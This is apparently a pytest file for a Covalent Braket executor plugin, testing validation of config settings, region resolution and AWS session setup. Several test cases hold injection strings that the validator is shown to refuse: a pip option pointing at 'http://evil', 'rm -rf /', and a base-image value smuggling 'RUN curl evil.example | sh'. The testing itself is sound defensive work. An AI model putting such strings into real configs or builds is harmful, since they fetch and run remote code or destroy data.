"""Executor settings: every covalent.conf key old and new, every check and its message, the region."""

from __future__ import annotations

import socket
import warnings
from pathlib import Path
from typing import Any

import pytest

from covalent_braket_plugin import aws
from covalent_braket_plugin.settings import (
    DEVICE_SHORT_NAMES,
    BraketExecutorSettings,
    ExecutorConfigError,
    instance_types,
    settings_reference_markdown,
)

# [executors.braket] as the 0.3 plugin wrote it into covalent.conf.
PLUGIN_0_3_CONF: dict[str, Any] = {
    "credentials": "~/.aws/credentials",
    "profile": "",
    "s3_bucket_name": "amazon-braket-covalent-job-resources",
    "ecr_repo_name": "covalent-braket-job-images",
    "braket_job_execution_role_name": "CovalentBraketJobsExecutionRole",
    "quantum_device": "arn:aws:braket:::device/quantum-simulator/amazon/sv1",
    "classical_device": "ml.m5.large",
    "storage": 30,
    "time_limit": 300,
    "cache_dir": "/tmp/covalent",
    "poll_freq": 30,
}
LATER_KEYS: dict[str, Any] = {
    "region": "us-east-1",
    "ecr_image_uri": "123456789012.dkr.ecr.us-east-1.amazonaws.com/amazon-braket-covalent:v1",
    "log_group_name": "/aws/braket/jobs",
}


@pytest.fixture(autouse=True)
def no_aws_configuration(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Region and profile come only from what each test sets."""
    for name in ("AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_DEFAULT_REGION", "AWS_REGION",
                 "AWS_SHARED_CREDENTIALS_FILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "no-config"))


settings_of = BraketExecutorSettings.from_options


def error_of(**options: Any) -> str:
    with pytest.raises(ExecutorConfigError) as raised:
        settings_of(**options)
    return str(raised.value)


def test_defaults_are_valid_and_follow_the_managed_policy() -> None:
    settings = settings_of()
    assert settings.s3_bucket_name.startswith("amazon-braket-")
    assert settings.ecr_repo_name.startswith("amazon-braket")
    assert settings.braket_job_execution_role_name == "service-role/AmazonBraketJobsExecutionRole"
    assert settings.cleanup is True
    assert settings.pip_packages == [] and settings.tags == {}


def test_the_0_3_covalent_conf_is_accepted(tmp_path: Path) -> None:
    with pytest.warns(UserWarning, match="ecr_repo_name 'covalent-braket-job-images'"):
        settings = settings_of(**PLUGIN_0_3_CONF)
    assert settings.credentials == str(Path.home() / ".aws" / "credentials")
    assert settings.poll_freq == 30.0
    assert settings.storage == 30 and settings.time_limit == 300


def test_keys_of_later_releases_are_accepted() -> None:
    settings = settings_of(**PLUGIN_0_3_CONF, **LATER_KEYS)
    assert settings.region == "us-east-1"
    assert settings.ecr_image_uri == LATER_KEYS["ecr_image_uri"]


def test_none_keeps_the_default() -> None:
    assert settings_of(region=None, storage=None) == settings_of()


def test_an_empty_value_is_not_set_and_keeps_the_default() -> None:
    # covalent.conf holds the plugin's empty defaults as "" (TOML has no null): they set nothing.
    empty = {name: "" for name in BraketExecutorSettings.model_fields}
    assert settings_of(**empty) == settings_of()
    assert settings_of(s3_bucket_name="  ", region=" ") == settings_of()  # blank is empty too


def test_string_values_from_covalent_conf_are_converted() -> None:
    settings = settings_of(
        storage="40", time_limit="600", poll_freq="2.5", cleanup="false",
        pip_packages="scipy, numpy>=1.26 scipy", tags="team=qc, project=vqe",
    )
    assert (settings.storage, settings.time_limit, settings.poll_freq) == (40, 600, 2.5)
    assert settings.cleanup is False
    assert settings.pip_packages == ["numpy>=1.26", "scipy"]
    assert settings.tags == {"team": "qc", "project": "vqe"}
    assert settings_of(tags='{"a": "b"}').tags == {"a": "b"}
    assert settings_of(pip_packages=["b", "a", "b"]).pip_packages == ["a", "b"]


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({"s3_bucket_name": "my-results"}, ["s3_bucket_name", "amazon-braket-*", "set s3_bucket_name"]),
        ({"ecr_repo_name": "Bad Name"}, ["ecr_repo_name", "not an ECR repository name"]),
        ({"ecr_image_uri": "docker.io/library/python:3.11"}, ["ecr_image_uri", "private ECR image"]),
        ({"classical_device": "ml.m5.larg"}, ["classical_device", "did you mean ml.m5.large", "ml.t3.large"]),
        ({"classical_device": "m5.large"}, ["classical_device", "use one of: ml.t3.large"]),
        ({"storage": 0}, ["storage", "from 1 to 16384"]),
        ({"storage": 20000}, ["storage", "from 1 to 16384"]),
        ({"storage": "lots"}, ["storage", "valid integer", "'lots'"]),
        ({"time_limit": 0}, ["time_limit", "from 1 to 432000"]),
        ({"time_limit": 432001}, ["time_limit", "5 days"]),
        ({"quantum_device": "ionq"}, ["quantum_device", "device ARN", "forte-1"]),
        ({"quantum_device": "arn:aws:braket:::device/"}, ["quantum_device", "not a Braket device"]),
        ({"poll_freq": 0}, ["poll_freq", "greater than 0"]),
        ({"poll_freq": -5}, ["poll_freq", "greater than 0"]),
        ({"initial_poll_freq": 0}, ["initial_poll_freq", "greater than 0"]),
        ({"braket_job_execution_role_name": "a b"}, ["braket_job_execution_role_name", "not an IAM role"]),
        ({"region": "mars-1"}, ["region", "like 'us-east-1'"]),
        ({"region": "ap-south-1"}, ["region", "not offered in ap-south-1", "us-east-1"]),
        ({"log_group_name": "bad group!"}, ["log_group_name", "/aws/braket/jobs"]),
        ({"tags": "justaword"}, ["tags", "key=value"]),
        ({"tags": {"aws:owner": "x"}}, ["tags", "must not start with 'aws:'"]),
        ({"pip_packages": ["numpy", "--index-url=http://evil"]}, ["pip_packages", "not pip requirements"]),
        ({"pip_packages": ["numpy; rm -rf /"]}, ["pip_packages", "no options, quotes or spaces"]),
        ({"cleanup": "maybe"}, ["cleanup", "valid boolean"]),
        ({"reservation_arn": "reservation-1"}, ["reservation_arn", "reservation ARN"]),
    ],
)
def test_each_invalid_value_names_its_setting_and_fix(options: dict[str, Any], expected: list[str]) -> None:
    message = error_of(**options)
    assert message.startswith("Invalid BraketExecutor settings:")
    for text in expected:
        assert text in message


def test_every_invalid_setting_is_listed_at_once() -> None:
    message = error_of(s3_bucket_name="results", storage=0, time_limit=10**7, poll_freq=0)
    lines = message.splitlines()
    assert [line.split(":")[0].strip("- ") for line in lines[1:]] == [
        "s3_bucket_name", "storage", "time_limit", "poll_freq"
    ]


def test_unknown_keys_are_named_with_a_suggestion() -> None:
    message = error_of(s3_bucket="amazon-braket-x", colour="blue")
    assert message.startswith("Unknown BraketExecutor setting(s):")
    assert "s3_bucket: did you mean 's3_bucket_name'?" in message
    assert "colour: remove it; the settings are: credentials, profile" in message


def test_repository_outside_the_managed_policy_fails_with_the_managed_role() -> None:
    message = error_of(ecr_repo_name="covalent-images")
    assert "ecr_repo_name 'covalent-images' does not start with 'amazon-braket'" in message
    assert "set ecr_image_uri" in message


def test_repository_outside_the_managed_policy_only_warns_with_a_custom_role() -> None:
    with pytest.warns(UserWarning, match="can only pull images from repositories named amazon-braket"):
        settings_of(
            ecr_repo_name="covalent-images", braket_job_execution_role_name="MyJobsRole"
        )


def test_repository_name_does_not_matter_with_a_ready_image() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        settings_of(
            ecr_repo_name="covalent-images", ecr_image_uri=LATER_KEYS["ecr_image_uri"]
        )


def test_device_short_names_become_arns() -> None:
    def device(name: str) -> str:
        return settings_of(quantum_device=name).quantum_device

    assert device("SV1") == DEVICE_SHORT_NAMES["sv1"]
    assert device("garnet") == "arn:aws:braket:eu-north-1::device/qpu/iqm/Garnet"
    assert device("local:braket/braket_sv") == "local:braket/braket_sv"


def test_device_short_names_are_the_sdks_current_devices() -> None:
    from braket.devices import Devices

    current = {
        getattr(provider, name).value
        for provider in vars(Devices).values() if isinstance(provider, type)
        for name in vars(provider) if not name.startswith("_")
    }
    assert set(DEVICE_SHORT_NAMES.values()) == current


def test_region_and_qpu_region_must_agree() -> None:
    message = error_of(region="us-west-2", quantum_device="forte-1")
    assert "region: 'us-west-2' differs from the region of quantum_device" in message
    assert "set region to 'us-east-1'" in message
    assert settings_of(region="us-west-2", quantum_device="sv1").region == "us-west-2"


def test_ready_image_outside_the_jobs_region_is_warned_about() -> None:
    uri = "123456789012.dkr.ecr.us-west-2.amazonaws.com/amazon-braket-mine:v1"
    with pytest.warns(UserWarning, match="ecr_image_uri is in us-west-2 but the jobs run in us-east-1"):
        settings_of(ecr_image_uri=uri, quantum_device="forte-1")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert settings_of(ecr_image_uri=uri, region="us-west-2").ecr_image_uri == uri


def test_initial_poll_interval_never_exceeds_poll_freq() -> None:
    assert settings_of(poll_freq=0.5).initial_poll_freq == 0.5
    message = error_of(poll_freq=5, initial_poll_freq=10)
    assert "initial_poll_freq (10.0 s) is longer than poll_freq (5.0 s)" in message


def test_region_comes_from_the_setting_then_the_qpu_then_the_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert settings_of(region="eu-west-2").resolve_region() == "eu-west-2"
    assert settings_of(quantum_device="cepheus-1-108q").resolve_region() == "us-west-1"
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-west-2")
    assert settings_of().resolve_region() == "us-west-2"


def test_no_region_anywhere_names_the_settings_to_set() -> None:
    with pytest.raises(ExecutorConfigError) as raised:
        settings_of().resolve_region()
    message = str(raised.value)
    assert "`region`" in message and "`quantum_device`" in message and "AWS_DEFAULT_REGION" in message


def test_role_arn_and_base_image() -> None:
    settings = settings_of()
    assert settings.role_arn("123456789012") == (
        "arn:aws:iam::123456789012:role/service-role/AmazonBraketJobsExecutionRole"
    )
    arn = "arn:aws:iam::210987654321:role/Other"
    assert settings_of(braket_job_execution_role_name=arn).role_arn("123456789012") == arn
    assert settings.resolve_base_image("eu-north-1") == (
        "292282985366.dkr.ecr.eu-north-1.amazonaws.com/amazon-braket-base-jobs:latest"
    )
    local = settings_of(base_image="covalent-braket/base:bookworm")
    assert local.resolve_base_image("us-east-1") == "covalent-braket/base:bookworm"


def test_settings_are_immutable() -> None:
    settings = settings_of()
    with pytest.raises(ValueError, match="frozen"):
        settings.storage = 10  # type: ignore[misc]


# --- session -----------------------------------------------------------------------------------------

def write_credentials(tmp_path: Path) -> Path:
    credentials = tmp_path / "credentials"
    credentials.write_text(
        "[default]\naws_access_key_id = DEFAULTKEY\naws_secret_access_key = s\n"
        "[lab]\naws_access_key_id = LABKEY\naws_secret_access_key = s\nregion = eu-north-1\n"
    )
    return credentials


def test_session_uses_the_credentials_file_profile_and_resolved_region(tmp_path: Path) -> None:
    credentials = write_credentials(tmp_path)
    session = settings_of(credentials=str(credentials), profile="lab").aws_session().boto_session
    assert session.get_credentials().access_key == "LABKEY"
    assert session.region_name == "eu-north-1"  # the profile's region
    qpu = settings_of(credentials=str(credentials), quantum_device="forte-1")
    session = qpu.aws_session().boto_session
    assert session.get_credentials().access_key == "DEFAULTKEY"
    assert session.region_name == "us-east-1"  # the QPU's region


def test_the_default_credentials_location_may_be_absent(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # As written by the 0.3 plugin into covalent.conf; credentials may come from the environment.
    monkeypatch.setattr(aws, "DEFAULT_CREDENTIALS_FILE", str(tmp_path / "absent"))
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "ENVKEY")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s")
    settings = settings_of(credentials=str(tmp_path / "absent"), region="us-east-1")
    assert settings.aws_session().boto_session.get_credentials().access_key == "ENVKEY"


def test_missing_credentials_file_and_unknown_profile_are_named(tmp_path: Path) -> None:
    with pytest.raises(ExecutorConfigError, match="credentials: no file at"):
        settings_of(credentials=str(tmp_path / "nope"), region="us-east-1").aws_session()
    credentials = write_credentials(tmp_path)
    with pytest.raises(ExecutorConfigError, match=r"profile: no profile 'prod'.*'default', 'lab'"):
        settings_of(credentials=str(credentials), profile="prod").aws_session()


# --- the generated configuration reference -----------------------------------------------------------

def test_docs_configuration_reference_is_generated_from_the_model() -> None:
    committed = (Path(__file__).parents[3] / "docs" / "configuration.md").read_text()
    assert committed == settings_reference_markdown(), (
        "docs/configuration.md is stale: regenerate it with "
        "python -c 'from covalent_braket_plugin.settings import settings_reference_markdown as m; "
        "print(m(), end=\"\")' > docs/configuration.md"
    )


def test_reference_lists_every_setting_and_device_short_name() -> None:
    reference = settings_reference_markdown()
    for name in BraketExecutorSettings.model_fields:
        assert f"| `{name}` |" in reference
    for short_name, arn in DEVICE_SHORT_NAMES.items():
        assert f"| `{short_name}` | `{arn}` |" in reference


def test_instance_types_come_from_botocore() -> None:
    assert "ml.m5.large" in instance_types()
    assert all(name.startswith("ml.") for name in instance_types())


# --- values that used to pass: refused before any AWS call ---------------------------------------------

@pytest.fixture
def no_aws(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any AWS session or network connection fails the test: validation must come before both."""

    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("an AWS session or a network connection was opened")

    monkeypatch.setattr(aws.AwsSession, "__init__", refuse)
    monkeypatch.setattr(aws.boto3.session.Session, "__init__", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({"time_limit": True}, ["time_limit: True is a yes/no value, not a number", "such as 300"]),
        ({"storage": False}, ["storage: False is a yes/no value, not a number", "such as 30"]),
        ({"poll_freq": True}, ["poll_freq: True is a yes/no value"]),
        ({"poll_freq": float("inf")}, ["poll_freq: inf is not a polling interval", "finite number"]),
        ({"poll_freq": float("nan")}, ["poll_freq: nan is not a polling interval"]),
        ({"poll_freq": "inf"}, ["poll_freq: inf is not a polling interval"]),  # as covalent.conf may hold it
        ({"initial_poll_freq": float("inf")}, ["initial_poll_freq: inf is not a polling interval"]),
        ({"initial_poll_freq": float("nan")}, ["initial_poll_freq: nan is not a polling interval"]),
        ({"s3_bucket_name": "amazon-braket-a..b"}, ["s3_bucket_name", "no two adjacent periods"]),
        ({"s3_bucket_name": "amazon-braket-x-"}, ["s3_bucket_name", "ends with a letter or a digit"]),
        ({"s3_bucket_name": "amazon-braket-x."}, ["s3_bucket_name", "ends with a letter or a digit"]),
        ({"s3_bucket_name": "amazon-braket-x-s3alias"}, ["s3_bucket_name", "'-s3alias'"]),
        ({"s3_bucket_name": "amazon-braket-" + "a" * 50}, ["s3_bucket_name", "3-63 lowercase letters"]),
        ({"s3_bucket_name": "amazon-braket-results\n"}, ["s3_bucket_name", "'amazon-braket-*'"]),
        ({"ecr_image_uri": LATER_KEYS["ecr_image_uri"] + "\n"}, ["ecr_image_uri", "private ECR image"]),
        ({"region": "us-east-1\n"}, ["region", "like 'us-east-1'"]),
        ({"base_image": "python:3.12\nRUN curl evil.example | sh"}, ["base_image", "not an image reference"]),
        ({"base_image": "python:3.12 AS evil"}, ["base_image", "no spaces or line breaks"]),
        ({"base_image": "Ubuntu:22.04"}, ["base_image", "lowercase repository", "leave it empty"]),
    ],
)
def test_values_that_look_like_numbers_or_names_but_are_not_are_refused(
    options: dict[str, Any], expected: list[str], no_aws: None
) -> None:
    message = error_of(**options)
    assert message.startswith("Invalid BraketExecutor settings:")
    for text in expected:
        assert text in message, message


def test_bucket_names_within_s3s_rules_pass() -> None:
    for name in ("amazon-braket-a.b", "amazon-braket-x-1", "amazon-braket-" + "a" * 49):
        assert settings_of(s3_bucket_name=name).s3_bucket_name == name


@pytest.mark.parametrize(
    "reference",
    [
        "python:3.12-slim",
        "ubuntu",
        "library/python@sha256:" + "a" * 64,
        "localhost:5000/team/base-image:v1.2",
        "292282985366.dkr.ecr.us-east-1.amazonaws.com/amazon-braket-base-jobs:latest",
        "ghcr.io/org/image:tag@sha256:" + "0" * 64,
    ],
)
def test_base_image_takes_any_image_reference(reference: str) -> None:
    assert settings_of(base_image=reference).base_image == reference


@pytest.fixture
def executor_class(monkeypatch: pytest.MonkeyPatch) -> type:
    """BraketExecutor with no [executors.braket] section in covalent.conf: only the test's values."""
    from covalent_braket_plugin.braket import BraketExecutor

    monkeypatch.setattr("covalent_braket_plugin.executor.executor._configured_options", dict)
    return BraketExecutor


@pytest.mark.parametrize("retries", [-1, True, 1.5, "2"])
def test_the_executor_refuses_bad_retries_before_any_aws_call(
    retries: Any, executor_class: type, no_aws: None
) -> None:
    with pytest.raises(ExecutorConfigError) as raised:
        executor_class(retries=retries)
    assert str(raised.value) == (
        "Invalid BraketExecutor settings:\n"
        f"  - retries: {retries!r} is not a number of retries; give a whole number from 0 (how many times "
        "Covalent runs a failed electron again)"
    )
    assert executor_class(retries=2).retries == 2


@pytest.mark.parametrize(
    "options",
    [{"time_limit": True}, {"poll_freq": float("inf")}, {"s3_bucket_name": "amazon-braket-a..b"},
     {"base_image": "python\nRUN id"}],
)
def test_the_executor_refuses_bad_settings_before_any_aws_call(
    options: dict[str, Any], executor_class: type, no_aws: None
) -> None:
    with pytest.raises(ExecutorConfigError, match=f"  - {next(iter(options))}: "):
        executor_class(**options)
